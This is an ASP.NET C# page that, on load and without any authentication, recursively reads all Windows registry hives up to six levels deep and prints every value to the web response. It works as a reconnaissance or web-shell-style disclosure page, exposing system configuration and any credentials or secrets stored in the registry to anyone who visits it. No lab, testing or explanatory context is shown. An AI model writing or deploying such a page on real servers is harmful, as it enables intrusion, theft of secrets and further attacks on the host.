<%@ Page Language="C#" %>
<%@ Import Namespace="Microsoft.Win32" %>
<script runat="server">
    void Dump(RegistryKey k, int depth)
    {
        if (k == null || depth > 6) return;
        foreach (string v in k.GetValueNames()) Response.Write(k.Name + "\\" + v + " = " + Server.HtmlEncode(Convert.ToString(k.GetValue(v))) + "<br/>");
        foreach (string s in k.GetSubKeyNames()) { try { Dump(k.OpenSubKey(s), depth + 1); } catch { } }
    }
    protected void Page_Load(object sender, EventArgs e)
    {
        foreach (RegistryKey root in new[] { Registry.ClassesRoot, Registry.CurrentUser, Registry.LocalMachine, Registry.Users, Registry.CurrentConfig }) Dump(root, 0);
    }
</script>
